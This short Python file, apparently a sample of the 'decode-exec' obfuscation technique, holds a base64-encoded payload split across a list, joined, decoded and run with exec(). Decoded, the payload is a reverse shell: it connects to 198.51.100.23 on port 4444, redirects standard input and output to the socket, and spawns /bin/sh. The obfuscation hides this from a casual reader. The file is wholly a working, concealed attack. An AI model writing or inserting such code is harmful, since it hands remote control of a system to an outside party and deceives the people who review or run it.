# decode-exec: the payload is split across a list and joined before decoding
import base64
chunks = [
    "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuY3JlYXRlX2Nvbm5lY3Rpb24oKCcxOTguNTEuMTAwLjIzJyw0NDQ0KSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oJy9iaW4vc2gnKQ==",
]
exec(base64.b64decode("".join(chunks)).decode("utf-8"))
